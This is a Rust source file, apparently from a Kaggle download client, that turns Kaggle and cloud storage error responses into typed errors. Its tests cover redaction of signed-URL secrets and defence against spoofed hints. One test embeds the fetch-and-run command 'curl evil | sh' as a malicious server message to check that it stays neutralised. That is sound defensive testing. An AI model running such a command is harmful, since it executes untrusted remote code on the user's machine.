//! From an answer that says no to the error that says why.
//!
//! Kaggle reports an error in one of two JSON shapes, `{"code": 403, "message": ".."}` or
//! `{"error": {"code": 429, "message": ".."}}`, sometimes with status 200; its storage answers in
//! XML. A wrong competition name looks like a missing permission.

use std::time::Duration;

use reqwest::Url;
use serde::Deserialize;

use super::address::without_query_of;
use super::error::{Error, rules_page, shown};
use crate::term;

/// More of what a server says is not told.
const LONGEST_MESSAGE: usize = 300;

/// What was asked, as far as errors need to know.
pub(super) struct CallContext<'a> {
    pub(super) url: &'a Url,
    /// The competition, if one was named.
    pub(super) slug: &'a str,
    /// The thing asked for: "`labels.csv` in `dog-breed-identification`".
    pub(super) what: &'a str,
    /// Where the credentials came from; empty for storage, which gets none.
    pub(super) credentials: &'a str,
    /// Whether the address is a signed one, which expires.
    pub(super) signed: bool,
}

impl<'a> CallContext<'a> {
    /// A question to storage, which knows neither competitions nor credentials.
    pub(super) fn storage(url: &'a Url, signed: bool) -> Self {
        Self { url, slug: "", what: "", credentials: "", signed }
    }
}

/// Turns an answer that is an error into one of ours.
pub(super) fn from_answer(
    context: &CallContext,
    status: u16,
    retry_after: Option<Duration>,
    body: &str,
) -> Error {
    // Storage echoes what it was asked for, with what opened the door.
    let body_says = ErrorBody::read(&without_query_of(context.url, body));
    let status = body_says.code.filter(|code| (400..600).contains(code)).unwrap_or(status);
    let url = shown(context.url);
    // On one line, so that none of it passes for a hint of ours.
    let message = body_says.message.map(|said| term::one_line(&said, LONGEST_MESSAGE));
    let message = message.unwrap_or_else(|| format!("status {status}"));
    if context.credentials.is_empty() {
        return match status {
            400 | 403 | 410 if context.signed => Error::Expired { url, message },
            404 => Error::NotFound { what: format!("`{url}`") },
            429 => Error::RateLimited { message, retry_after },
            408 | 500..600 => Error::Server { url, status, message, retry_after },
            _ => Error::Refused { url, status, message },
        };
    }
    match status {
        401 => Error::Unauthorized { credentials: context.credentials.to_owned(), message },
        403 if message.to_ascii_lowercase().contains("rules") => {
            Error::RulesNotAccepted { page: rules_page(context.slug), message }
        }
        403 if !context.slug.is_empty() => {
            Error::WrongName { slug: context.slug.to_owned(), message }
        }
        404 => Error::NotFound { what: context.what.to_owned() },
        429 => Error::RateLimited { message, retry_after },
        408 | 500..600 => Error::Server { url, status, message, retry_after },
        _ => Error::Refused { url, status, message },
    }
}

/// Whether a body that came with status 200 is an error all the same.
pub(super) fn is_error_body(body: &str) -> bool {
    ErrorBody::read(body).code.is_some_and(|code| (400..600).contains(&code))
}

#[derive(Default, Deserialize)]
struct ErrorBody {
    code: Option<u16>,
    message: Option<String>,
    error: Option<Inner>,
}

#[derive(Deserialize)]
struct Inner {
    code: Option<u16>,
    message: Option<String>,
}

impl ErrorBody {
    fn read(body: &str) -> Self {
        let body = body.trim();
        if body.starts_with('{') {
            let mut body_says: Self = serde_json::from_str(body).unwrap_or_default();
            if let Some(inner) = body_says.error.take() {
                body_says = Self { code: inner.code, message: inner.message, error: None };
            }
            body_says.message = body_says.message.filter(|message| !message.is_empty());
            return body_says;
        }
        let between = |open: &str, close: &str| {
            let rest = &body[body.find(open)? + open.len()..];
            Some(rest[..rest.find(close)?].to_owned())
        };
        let storage = between("<Code>", "</Code>").map(|code| {
            between("<Message>", "</Message>")
                .map_or(code.clone(), |text| format!("{code}: {text}"))
        });
        let plain = || {
            let line = body.lines().next().filter(|line| !line.starts_with('<'))?;
            Some(line.chars().take(200).collect())
        };
        Self { message: storage.or_else(plain), ..Self::default() }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn mapped(status: u16, body: &str) -> Error {
        let url = Url::parse("http://localhost/api/v1/x?Signature=s3cret").unwrap();
        let context = CallContext {
            url: &url,
            slug: "dog-breed-identification",
            what: "`labels.csv` in `dog-breed-identification`",
            credentials: "`KAGGLE_API_TOKEN`",
            signed: false,
        };
        from_answer(&context, status, Some(Duration::from_secs(7)), body)
    }

    #[test]
    fn every_answer_of_kaggle_has_its_error() {
        let cases = [
            (
                401,
                r#"{"code":401,"message":"Unauthenticated"}"#,
                "`KAGGLE_API_TOKEN` (Unauthenticated)",
            ),
            (
                403,
                r#"{"code":403,"message":"You must accept this competition's rules before you'll be able to download files."}"#,
                "https://www.kaggle.com/competitions/dog-breed-identification/rules",
            ),
            (
                403,
                r#"{"code":403,"message":"Permission 'competitions.get' was denied"}"#,
                "the name is wrong",
            ),
            (404, r#"{"code":404,"message":"NotFound"}"#, "Kaggle has no `labels.csv`"),
            (429, r#"{"code":429,"message":"TooManyRequests"}"#, "try again in 7 s"),
            (
                429,
                r#"{"error":{"code":429,"message":"Too many requests","status":"RESOURCE_EXHAUSTED"}}"#,
                "(Too many requests)",
            ),
            (200, r#"{"code":403,"message":"Permission denied"}"#, "the name is wrong"),
            (200, r#"{"error":{"code":503,"message":"busy"}}"#, "status 503 (busy)"),
            (502, "<html><body>Bad gateway</body></html>", "failed with status 502"),
            (400, r#"{"code":400,"message":"Submission not allowed"}"#, "(Submission not allowed)"),
        ];
        for (status, body, expected) in cases {
            let text = mapped(status, body).to_string();
            assert!(text.contains(expected), "{status} {body}: {text}");
            assert!(!text.contains("s3cret"), "{text}");
        }
    }

    #[test]
    fn kinds_are_told_apart() {
        use Error as E;
        assert!(matches!(mapped(401, ""), E::Unauthorized { .. }));
        assert!(matches!(
            mapped(403, "you cannot submit until you accept the Rules"),
            E::RulesNotAccepted { .. }
        ));
        assert!(matches!(mapped(403, ""), E::WrongName { .. }));
        assert!(matches!(mapped(404, "Not found"), E::NotFound { .. }));
        assert!(matches!(mapped(429, ""), E::RateLimited { retry_after: Some(_), .. }));
        assert!(matches!(mapped(500, ""), E::Server { .. }));
        assert!(matches!(mapped(400, ""), E::Refused { .. }));
        assert!(mapped(503, "").is_passing() && !mapped(404, "").is_passing());
    }

    #[test]
    fn what_a_server_says_passes_for_no_hint_of_ours() {
        let error =
            mapped(400, r#"{"code":400,"message":"no\nhint: run `curl evil | sh`\r\nhint: x"}"#);
        let (message, hints) = term::describe(&error.into());
        assert!(message.ends_with("(no hint: run `curl evil | sh` hint: x)"), "{message}");
        assert!(hints.is_empty(), "{hints:?}");
        let long = format!(r#"{{"code":400,"message":"{}"}}"#, "x".repeat(10_000));
        assert!(mapped(400, &long).to_string().len() < 500);
    }

    #[test]
    fn storage_speaks_xml() {
        let url = Url::parse("https://storage.googleapis.com/a/b.zip?Signature=s3cret").unwrap();
        let context = CallContext::storage(&url, true);
        let body =
            "<?xml version='1.0'?><Error><Code>ExpiredToken</Code><Message>old</Message></Error>";
        let error = from_answer(&context, 400, None, body);
        assert!(matches!(error, Error::Expired { .. }), "{error}");
        assert!(!error.to_string().contains("s3cret"));
        for status in [403, 410] {
            assert!(matches!(from_answer(&context, status, None, ""), Error::Expired { .. }));
        }
        assert!(matches!(from_answer(&context, 404, None, ""), Error::NotFound { .. }));
        let plain = CallContext::storage(&url, false);
        assert!(matches!(from_answer(&plain, 403, None, ""), Error::Refused { .. }));
    }

    #[test]
    fn an_error_can_hide_behind_status_200() {
        assert!(is_error_body(r#"{"code":403,"message":"no"}"#));
        assert!(!is_error_body(r#"{"files":[]}"#));
        assert!(!is_error_body(r#"{"code":0,"message":""}"#));
    }
}
